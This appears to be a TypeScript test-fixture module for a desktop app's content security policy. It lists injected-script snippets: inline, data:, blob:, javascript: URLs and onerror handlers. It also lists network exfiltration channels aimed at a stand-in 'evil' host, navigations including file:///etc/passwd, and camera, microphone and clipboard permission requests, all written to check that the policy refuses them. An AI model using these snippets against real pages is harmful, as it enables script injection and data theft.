/** What a page can try once foreign script runs in it, as code to be run there. `window.foreignScript` tells that one ran. */

/** Ways to run a script. Each resolves when it has been refused, or has run. */
export const SCRIPTS = (evil: string): Readonly<Record<string, string>> => ({
  inline: inserted(`const it = document.createElement('script'); it.textContent = ${RAN};`),
  'inline module': inserted(
    `const it = document.createElement('script'); it.type = 'module'; it.textContent = ${RAN};`,
  ),
  'remote script': inserted(`const it = document.createElement('script'); it.src = '${evil}/a.js';`),
  'data: script': inserted(
    `const it = document.createElement('script'); it.src = 'data:text/javascript,' + encodeURIComponent(${RAN});`,
  ),
  'blob: script': inserted(
    `const it = document.createElement('script'); it.src = URL.createObjectURL(new Blob([${RAN}]));`,
  ),
  'event handler': inserted(
    `const it = document.createElement('img'); it.src = 'data:,'; it.setAttribute('onerror', ${RAN});`,
  ),
  'event handler in markup': violating(
    `document.body.insertAdjacentHTML('beforeend', '<img src="data:," onerror="window.foreignScript=1">')`,
  ),
  'javascript: link': violating(
    `const it = document.createElement('a'); it.href = 'javascript:' + ${RAN}; document.body.append(it); it.click()`,
  ),
  'javascript: frame': violating(
    `const it = document.createElement('iframe'); it.src = 'javascript:parent.' + ${RAN}; document.body.append(it)`,
  ),
  // It reports to a document of its own.
  'srcdoc frame': within(
    `const it = document.createElement('iframe'); it.srcdoc = '<script>parent.' + ${RAN} + '</scr' + 'ipt>'; it.onload = resolve; document.body.append(it)`,
  ),
  'remote frame': violating(
    `const it = document.createElement('iframe'); it.src = '${evil}/frame'; document.body.append(it)`,
  ),
  // What executeJavaScript runs itself is exempt from the policy, a task of its own is not.
  eval: violating(`setTimeout(() => { try { (0, eval)(${RAN}) } catch {} })`),
  'new Function': violating(`setTimeout(() => { try { new Function(${RAN})() } catch {} })`),
  'setTimeout of text': violating(`setTimeout(() => setTimeout(${RAN}))`),
  'import()': violating(`setTimeout(() => import('data:text/javascript,' + ${RAN}).catch(() => {}))`),
  worker: violating(`setTimeout(() => { try { new Worker('data:text/javascript,1') } catch {} })`),
  'blob: worker': violating(
    `setTimeout(() => { try { new Worker(URL.createObjectURL(new Blob(['1']))) } catch {} })`,
  ),
  object: violating(
    `const it = document.createElement('object'); it.data = '${evil}/object'; document.body.append(it)`,
  ),
  'style attribute': violating(
    `document.body.insertAdjacentHTML('beforeend', '<p style="background:url(${evil}/css)">')`,
  ),
  'style element': inserted(
    `const it = document.createElement('style'); it.textContent = '@import url(${evil}/import.css)';`,
  ),
  base: violating(
    `const it = document.createElement('base'); it.href = '${evil}/'; document.head.append(it)`,
  ),
});

const RAN = `'window.foreignScript=1'`;

const PATIENCE_MS = 5000;

/** `code` calls `resolve`, in time. */
const within = (code: string) => `new Promise((resolve, reject) => {
  setTimeout(() => reject(new Error('nobody refused it')), ${PATIENCE_MS});
  ${code};
}).then(() => {})`;

/** Resolves with the page's own report that its policy was violated. */
const violating = (code: string) =>
  within(
    `document.addEventListener('securitypolicyviolation', () => setTimeout(resolve), { once: true }); ${code}`,
  );

const inserted = (code: string) => violating(`${code} document.head.append(it)`);

/** Ways to the network that need no navigation; each ends with 'tried'. */
export const NETWORK_USES = (evil: string, port: number): Readonly<Record<string, string>> => ({
  fetch: `fetch('${evil}/fetch', { mode: 'no-cors' }).catch(() => {}).then(() => 'tried')`,
  request: tried(
    `const it = new XMLHttpRequest(); it.open('GET', '${evil}/xhr', false); try { it.send() } catch {}`,
  ),
  beacon: tried(`navigator.sendBeacon('${evil}/beacon', 'x')`),
  socket: settled(
    `const it = new WebSocket('ws://127.0.0.1:${port}/'); it.onerror = done; it.onclose = done;`,
  ),
  events: settled(`const it = new EventSource('${evil}/events'); it.onerror = done;`),
  image: settled(`const it = new Image(); it.onerror = done; it.src = '${evil}/image.png';`),
  font: `new FontFace('evil', 'url(${evil}/font.woff2)').load().catch(() => {}).then(() => 'tried')`,
  'web transport': settled(
    `try { new WebTransport('https://127.0.0.1:${port}/').ready.then(done, done) } catch { done() }`,
  ),
  'link ping': tried(
    `const it = document.createElement('a'); it.href = '#'; it.ping = '${evil}/ping'; document.body.append(it); it.click(); it.remove()`,
  ),
  'early hints': tried(
    `for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload', 'prerender', 'modulepreload', 'icon', 'manifest', 'stylesheet']) {
      const it = document.createElement('link'); it.rel = rel; it.as = 'image'; it.href = '${evil}/' + rel; document.head.append(it);
    }`,
  ),
  'speculation rules': tried(
    `const it = document.createElement('script'); it.type = 'speculationrules'; it.textContent = '{"prefetch":[{"source":"list","urls":["${evil}/speculated"]}]}'; document.head.append(it)`,
  ),
  'WebRTC over TCP': gathered(
    `{ urls: 'turn:127.0.0.1:${port}?transport=tcp', username: 'a', credential: 'b' }`,
  ),
  'WebRTC over UDP': gathered(`{ urls: 'stun:127.0.0.1:${port}' }`),
});

const tried = (code: string) => `(() => { ${code}; return 'tried' })()`;

const settled = (code: string) =>
  `new Promise((resolve) => { const done = () => resolve('tried'); try { ${code} } catch { done() } })`;

/** Until all candidates are known: the server was asked by then, if it can be. */
function gathered(server: string): string {
  return settled(`
    const it = new RTCPeerConnection({ iceServers: [${server}] });
    it.onicegatheringstatechange = () => { if (it.iceGatheringState === 'complete') { it.close(); done() } };
    it.createDataChannel('x');
    it.createOffer().then((offer) => it.setLocalDescription(offer));`);
}

/** Ways to another page, and the URL at which the window would be about to go; null: it does not come so far. */
export const NAVIGATIONS = (evil: string): readonly (readonly [code: string, url: string | null])[] => [
  [`location.href = '${evil}/href'`, `${evil}/href`],
  [`location.assign('${evil}/assign')`, `${evil}/assign`],
  [`location.replace('${evil}/replace')`, `${evil}/replace`],
  [`top.location = '${evil}/top'`, `${evil}/top`],
  [link(`${evil}/link`, ''), `${evil}/link`],
  [link(`${evil}/self`, '_top'), `${evil}/self`],
  [link(`${evil}/blank`, '_blank'), null],
  [link(`${evil}/named`, 'other'), null],
  [`void open('${evil}/popup')`, null],
  [`void open('${evil}/features', 'x', 'width=100,height=100')`, null],
  [`void open('about:blank')`, null],
  [`void open('app://larder/index.html')`, null],
  [
    `(() => { const it = document.createElement('meta'); it.httpEquiv = 'refresh'; it.content = '0;url=${evil}/meta'; document.head.append(it) })()`,
    `${evil}/meta`,
  ],
  [
    `new Promise((resolve) => {
      document.addEventListener('securitypolicyviolation', resolve, { once: true });
      const it = document.createElement('form'); it.action = '${evil}/form'; it.method = 'post'; document.body.append(it); it.submit();
    }).then(() => {})`,
    null,
  ],
  [`location.href = 'file:///etc/passwd'`, null],
  [`location.href = 'data:text/html,<h1>gone</h1>'`, null],
  [`location.href = 'mailto:a@b'`, 'mailto:a@b'],
  [`location.href = 'app://elsewhere/index.html'`, 'app://elsewhere/index.html'],
];

function link(url: string, target: string): string {
  return `(() => { const it = document.createElement('a'); it.href = '${url}'; it.target = '${target}'; document.body.append(it); it.click(); it.remove() })()`;
}

/** Functions that resolve to what a permission came to; the name of the error where it was refused by one. */
export const PERMISSIONS: Readonly<Record<string, string>> = {
  ...Object.fromEntries(
    ['geolocation', 'notifications', 'camera', 'microphone', 'clipboard-read', 'midi'].map((name) => [
      `query ${name}`,
      `async () => (await navigator.permissions.query({ name: '${name}' })).state`,
    ]),
  ),
  geolocation: `() => new Promise((resolve) => navigator.geolocation.getCurrentPosition(() => resolve('granted'), (error) => resolve(error.code)))`,
  notifications: `() => Notification.requestPermission()`,
  camera: `() => navigator.mediaDevices.getUserMedia({ video: true })`,
  microphone: `() => navigator.mediaDevices.getUserMedia({ audio: true })`,
  screen: `() => navigator.mediaDevices.getDisplayMedia({ video: true })`,
  clipboard: `() => navigator.clipboard.readText()`,
  midi: `() => navigator.requestMIDIAccess({ sysex: true })`,
  usb: `() => navigator.usb.requestDevice({ filters: [] })`,
  serial: `() => navigator.serial.requestPort()`,
  storage: `() => navigator.storage.persist()`,
  idle: `() => IdleDetector.requestPermission()`,
};
